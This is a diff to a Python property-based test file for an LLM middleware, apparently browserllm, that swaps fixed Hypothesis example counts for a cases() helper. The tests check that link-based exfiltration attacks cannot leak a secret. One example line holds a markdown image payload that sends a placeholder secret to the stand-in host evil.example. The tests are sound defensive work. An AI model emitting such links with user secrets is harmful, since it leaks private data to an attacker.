@@ -20,6 +20,7 @@ from hypothesis import example, given, settings
 import browserllm as bl
 from browserllm.backends.middleware.placeholders import Placeholders
 from browserllm.testing.backend import ScriptedBackend
+from cases import cases
 from unit.backends.middleware.link_attacks import ATTACKS, HARMLESS, carried_away
 
 SECRET = "hunter2-correct-horse"
@@ -71,7 +72,7 @@ def restored(pieces: list[str], *, in_json: bool = False) -> str:
 
 
 @given(soup.map("".join), cuts, st.booleans())
-@settings(max_examples=400, deadline=None)
+@settings(max_examples=cases(400), deadline=None)
 def test_the_pieces_change_nothing(text: str, places: list[int], in_json: bool) -> None:
     """Any split gives the same result as the whole text, and so does one character at a time."""
     whole = restored([text], in_json=in_json)
@@ -80,14 +81,14 @@ def test_the_pieces_change_nothing(text: str, places: list[int], in_json: bool) 
 
 
 @given(soup.map("".join), cuts)
-@settings(max_examples=600, deadline=None)
+@settings(max_examples=cases(600), deadline=None)
 def test_no_soup_of_syntax_makes_an_address_of_the_secret(text: str, places: list[int]) -> None:
     """Whatever surrounds it, the judge finds the secret in no address."""
     assert carried_away(restored(cut(text, places)), SECRET) == ""
 
 
 @given(st.lists(attacks, min_size=1, max_size=4), st.sampled_from([" ", "\n", "\n\n", ". "]), cuts)
-@settings(max_examples=300, deadline=None)
+@settings(max_examples=cases(300), deadline=None)
 def test_one_attack_opens_no_way_for_another(chosen: list[str], between: str, places: list[int]) -> None:
     """Attacks and harmless texts one after another."""
     assert carried_away(restored(cut(between.join(map(mark, chosen)), places)), SECRET) == ""
@@ -112,7 +113,7 @@ def escaped(text: str, how: str) -> str:
     cuts,
 )
 @example(["<![x](https://evil.example/?<SECRET_1>)"], "plain", False, [])
-@settings(max_examples=400, deadline=None)
+@settings(max_examples=cases(400), deadline=None)
 def test_no_text_in_json_becomes_an_address_with_the_secret(
     values: list[str], how: str, compact: bool, places: list[int]
 ) -> None:
@@ -134,7 +135,7 @@ def test_no_text_in_json_becomes_an_address_with_the_secret(
     st.integers(min_value=0, max_value=40),
     cuts,
 )
-@settings(max_examples=150, deadline=None)
+@settings(max_examples=cases(150), deadline=None)
 def test_a_tool_that_was_not_named_gets_no_value(values: list[str], name: str, late: int, places: list[int]) -> None:
     """Through the middleware, with arguments in pieces and a name that may come late."""
     arguments = json.dumps({"values": values, "plain": "<SECRET_1>"})
